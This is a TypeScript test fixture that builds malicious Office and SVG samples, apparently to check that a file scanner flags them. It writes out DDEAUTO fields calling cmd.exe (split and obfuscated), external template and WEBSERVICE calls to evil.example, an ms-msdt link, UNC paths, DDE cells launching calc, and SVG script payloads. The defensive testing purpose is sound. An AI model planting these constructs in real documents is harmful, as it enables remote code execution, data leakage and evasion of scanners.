import { virus, type BadFile } from "./bad-file.ts";
import { docx, xlsx } from "./good-files.ts";

const types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const part = (words: string, name = "word/footer1.xml") => docx({ more: [{ name, bytes: words }] });
const relations = (words: string | Buffer) =>
  docx({ more: [{ name: "word/_rels/footer1.xml.rels", bytes: words }] });
const utf16 = (words: string) => Buffer.concat([Buffer.from("fffe", "hex"), Buffer.from(words, "utf16le")]);
const template = `<Relationships><Relationship Id="r9" Type="${types}/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`;
const said = (name: string, words: string) => `<w:${name}>${words}</w:${name}>`;
const runs = (...texts: string[]) =>
  `<w:document xmlns:w="w"><w:fldChar w:fldCharType="begin"/>${texts.map((words) => `<w:instrText>${words}</w:instrText>`).join("")}<w:fldChar w:fldCharType="end"/></w:document>`;
const cell = (formula: string) =>
  xlsx({ more: [{ name: "xl/worksheets/sheet1.xml", bytes: `<worksheet><f>${formula}</f></worksheet>` }] });

/** Office documents that hide what they fetch or run from whoever reads words and not structure. */
export const hiddenOffices: readonly BadFile[] = [
  ["a relation in single quotes", "hidden-a.docx", relations(template.replaceAll('"', "'")), "file-active"],
  ["a relation in UTF-16", "hidden-b.docx", relations(utf16(template)), "file-active"],
  [
    "a relation in character references",
    "hidden-c.docx",
    relations(template.replace("attachedTemplate", "&#97;ttached&#x54;emplate")),
    "file-active",
  ],
  [
    "a picture from elsewhere",
    "hidden-d.docx",
    relations(
      `<Relationships><Relationship Id="r" Type="${types}/image" Target="https://evil.example/x.png" TargetMode="External"/></Relationships>`,
    ),
    "file-active",
  ],
  [
    "a picture from elsewhere that isn't said to be",
    "hidden-e.docx",
    relations(
      `<Relationships><Relationship Id="r" Type="${types}/image" Target="\\\\evil\\x.png"/></Relationships>`,
    ),
    "file-active",
  ],
  [
    "a link that starts a program",
    "hidden-f.docx",
    relations(
      `<Relationships><Relationship Id="r" Type="${types}/hyperlink" Target="ms-msdt:/id x" TargetMode="External"/></Relationships>`,
    ),
    "file-active",
  ],
  [
    "a drawing of old that names its picture by an address",
    "hidden-g.docx",
    part('<v:shape xmlns:v="v"><v:imagedata src="https://evil.example/x.png"/></v:shape>'),
    "file-active",
  ],
  [
    "a simple field that starts a program",
    "hidden-h.docx",
    part('<w:p xmlns:w="w"><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe"/></w:p>'),
    "file-active",
  ],
  ["a field in several runs", "hidden-i.docx", part(runs(" DD", "EAU", "TO c:\\\\cmd.exe")), "file-active"],
  ["a field that includes a file", "hidden-j.docx", part(runs(' includetext "\\\\evil\\x"')), "file-active"],
  [
    "a document of another kind in a document",
    "hidden-k.docx",
    part('<w:body xmlns:w="w" xmlns:r="r"><w:altChunk r:id="r1"/></w:body>'),
    "file-active",
  ],
  [
    "a cell that asks a service",
    "hidden-l.xlsx",
    cell("WEBSERVICE(&quot;https://evil.example&quot;)"),
    "file-active",
  ],
  [
    "a cell that asks a service by its stored name",
    "hidden-m.xlsx",
    cell("1+_xlfn.WEBSERVICE (A1)"),
    "file-active",
  ],
  [
    "a cell that hands a service on by its name",
    "hidden-q.xlsx",
    cell("_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f(&quot;https://evil.example&quot;))"),
    "file-active",
  ],
  ["a cell that speaks to another program", "hidden-n.xlsx", cell("cmd|'/C calc'!A0"), "file-active"],
  ["a cell that fetches a picture", "hidden-o.xlsx", cell("_xlfn.IMAGE(A1)"), "file-active"],
  ...[
    ["another file of the web", "'https://evil.example/[x.xlsx]Sheet1'!A1"],
    ["another file of a computer", "1+'\\\\evil\\[x.xlsx]Sheet1'!A1"],
    ["another file by its name", "[x.xlsx]Sheet1!A1"],
    ["data from the web", "IMPORTDATA(A1)"],
  ].map(([what = "", formula = ""], at): BadFile => [
    `a cell that reads ${what}`,
    `hidden-x${at}.xlsx`,
    cell(formula),
    "file-active",
  ]),
  ...["\\\\evil\\x", "//evil/x", "file://evil/x", "file:///C:/x.exe", "..\\setup.lnk"].map(
    (target, at): BadFile => [
      `a link to ${target}`,
      `hidden-y${at}.docx`,
      relations(
        `<Relationships><Relationship Id="r" Type="${types}/hyperlink" Target="${target}" TargetMode="External"/></Relationships>`,
      ),
      "file-active",
    ],
  ),
  ...[
    ["that runs a script when it is loaded", '<svg onload="x()"/>'],
    ["that links to a script", '<svg><a href="java&#10;script:x()"/></svg>'],
    ["that fetches another", '<svg><image href="https://evil.example/x.png"/></svg>'],
    ["whose style fetches another", "<svg><style>g { fill: url(//evil/x) }</style></svg>"],
    ["whose style is elsewhere", '<?xml-stylesheet href="https://evil.example/x.css"?><svg/>'],
    [
      "that changes an address",
      '<svg><a href="#x"><set attributeName="href" to="javascript:x()"/></a></svg>',
    ],
  ].map(([what = "", svg = ""], at): BadFile => [
    `a picture ${what}`,
    `hidden-z${at}.docx`,
    part(svg, "word/media/image1.svg"),
    "file-active",
  ]),
  ...[
    ["in a branch that nobody reads", `<mc:Choice>${said("instrText", "x")}</mc:Choice>`],
    ["ended in a branch that nobody reads", '<mc:Choice><w:fldChar w:fldCharType="separate"/></mc:Choice>'],
    ["in what was struck out", said("delInstrText", "x")],
    ["in an instruction's own branch", "<w:instrText><mc:Choice>x</mc:Choice></w:instrText>"],
  ].map(([where = "", decoy = ""], at): BadFile => [
    `a field that is broken ${where}`,
    `hidden-x${at}.docx`,
    part(
      `<w:ftr xmlns:w="w" xmlns:mc="mc"><w:fldChar w:fldCharType="begin"/>${said("instrText", "DDE")}${decoy}${said("instrText", "AUTO c")}<w:fldChar w:fldCharType="end"/></w:ftr>`,
    ),
    "file-active",
  ]),
  [
    "a formula that is broken in a branch that nobody reads",
    "hidden-o.xlsx",
    cell('WEB<mc:Choice xmlns:mc="mc">x</mc:Choice>SERVICE("https://evil.example")'),
    "file-active",
  ],
  ...[
    `<xml xmlns:x="x"><x:FmlaMacro>'\\\\evil\[x.xlsm]'!run</x:FmlaMacro></xml>`,
    `<xdr:wsDr xmlns:xdr="xdr"><xdr:sp macro="[9]!run"/></xdr:wsDr>`,
    `<xdr:wsDr xmlns:xdr="xdr"><xdr:sp textlink="cmd|'/c calc'!A0"/></xdr:wsDr>`,
  ].map((drawing, at): BadFile => [
    `a drawing that runs another file's macro, or another program (${at})`,
    `hidden-n${at}.xlsx`,
    xlsx({ more: [{ name: "xl/drawings/drawing1.xml", bytes: drawing }] }),
    "file-active",
  ]),
  [
    "a sheet with data connections",
    "hidden-p.xlsx",
    xlsx({ relations: `<Relationship Id="r" Type="${types}/connections" Target="connections.xml"/>` }),
    "file-active",
  ],
  [
    "a virus packed in a document",
    "hidden-q.docx",
    part(`<x>${virus.replace("&", "&amp;")}</x>`),
    "file-malware",
  ],
  [
    "a virus packed as a picture",
    "hidden-r.docx",
    docx({ more: [{ name: "word/media/image1.png", bytes: virus }] }),
    "file-malware",
  ],
  ["a part that isn't well formed", "hidden-s.docx", part("<w:p><w:r></w:p>"), "file-damaged"],
  ["a part with an entity of nobody's", "hidden-t.docx", part("<x>&xxe;</x>"), "file-damaged"],
  [
    "a part in an encoding that is not read",
    "hidden-u.docx",
    part('<?xml version="1.0" encoding="UTF-7"?><x/>'),
    "file-damaged",
  ],
  ["a part of a kind that no document has", "hidden-v.docx", part("words", "word/data.bin"), "file-nested"],
  [
    "a part that calls itself a picture and is XML",
    "hidden-w.docx",
    part(runs(" DDEAUTO x"), "word/media/image1.png"),
    "file-nested",
  ],
];
